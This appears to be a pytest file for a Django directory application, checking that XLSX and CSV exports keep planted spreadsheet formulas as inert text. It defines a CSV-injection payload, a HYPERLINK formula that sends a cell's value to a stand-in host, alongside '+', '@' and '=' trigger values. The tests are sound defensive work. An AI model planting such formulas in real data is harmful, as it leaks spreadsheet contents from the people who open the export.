"""What leaves the product is opened in a spreadsheet program: a planted formula stays text.

A name like ``=HYPERLINK("http://x/?d="&A2,"…")`` sent through the API must come out of the XLSX export as a
text cell (never a formula) and out of the CSV export with a leading quote (OWASP "CSV Injection")."""

import csv
import io
import zipfile

from django.urls import reverse
from openpyxl import load_workbook

from pckb.core.exports import csv_safe
from pckb.directory.models import Agency
from pckb.geo.models import AdministrativeUnit

PLANTED = '=HYPERLINK("http://x.invalid/?d="&A2,"Bấm để xem")'


def plant(api_client) -> Agency:
    unit = AdministrativeUnit.objects.get(code="P92")
    response = api_client("vptt.cantho").post(
        "/api/v1/agencies/",
        {"name": PLANTED, "short_name": "+SUM(1,2)", "kind": "other", "unit": unit.pk, "phone": "@cmd"},
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    return Agency.objects.get(name=PLANTED)


def test_xlsx_export_writes_a_planted_formula_as_text(client, login, api_client):
    plant(api_client)
    login("vptt.cantho")
    response = client.get("/to-chuc/co-quan/", {"export": "xlsx"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml, "no cell of the export may be a formula"
    ws = load_workbook(io.BytesIO(content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value == PLANTED]
    assert cells, "the name is exported unchanged, as text"
    assert all(c.data_type == "s" for c in cells)


def test_csv_export_neutralises_formula_cells(client, login, api_client):
    plant(api_client)
    login("vptt.cantho")
    response = client.get("/to-chuc/co-quan/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    values = {v for row in rows for v in row}
    assert "'" + PLANTED in values
    assert PLANTED not in values
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_csv_safe_prefixes_every_formula_trigger_and_leaves_text_alone():
    for raw in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
        assert csv_safe(raw) == "'" + raw
    for raw in ("Công an thành phố Cần Thơ", "", "0292 3820 000", "a=b"):
        assert csv_safe(raw) == raw


def test_results_workbook_keeps_a_planted_name_as_text(client, login):
    from tests.training.test_services import upcoming

    conference = upcoming()
    person = conference.participants.select_related("person").first().person
    type(person).objects.filter(pk=person.pk).update(full_name=PLANTED)
    login("vptt.cantho")
    response = client.get(reverse("training:conference_file", args=[conference.pk, "diem-danh.xlsx"]))
    assert response.status_code == 200, response.status_code
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    ws = load_workbook(io.BytesIO(response.content)).active
    assert any(c.value == PLANTED and c.data_type == "s" for row in ws.iter_rows() for c in row)
